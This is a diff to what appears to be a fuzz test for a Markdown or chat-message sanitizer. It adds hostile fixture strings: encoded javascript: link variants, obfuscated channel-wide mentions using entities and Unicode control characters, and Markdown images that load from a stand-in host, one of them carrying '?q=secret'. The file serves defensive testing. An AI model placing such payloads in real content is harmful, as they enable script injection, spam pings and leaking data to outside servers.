@@ -52,6 +52,26 @@ ATTACKS = [
     "![x](https://evil.example/?q=secret)",
     "[a]: https://example.org",
     "slack://channel?id=C1",
+    "<\\!channel>",
+    "&LT;!channel>",
+    "@&#99;hannel",
+    "@\u202edurov",
+    "tg:\u2028//user?id=1",
+    "https://)@durov",
+    "https://a.example/x)@durov",
+    ":/start",
+]
+LINKS = [
+    "[x](java&#115;cript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](javascript\\:alert(1))",
+    "[x]( <tg://user?id=1> )",
+    "[x](\ntg:user)",
+    "[x][a]\n\n[a]: javascript:alert(1)",
+    "![x][a]\n\n[a]: https://evil.example/?q=1",
+    "[![x](https://evil.example/a.png)](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "<slack://channel?id=C1|x>",
 ]
 WORDS = [
     "hello",
@@ -71,7 +91,7 @@ WORDS = [
 ]
 
 fragments = st.one_of(
-    st.sampled_from(MARKS), st.sampled_from(ATTACKS), st.sampled_from(WORDS), st.text(max_size=8)
+    st.sampled_from(MARKS), st.sampled_from(ATTACKS + LINKS), st.sampled_from(WORDS), st.text(max_size=8)
 )
 texts = (
     st.lists(fragments, max_size=40).map("".join)
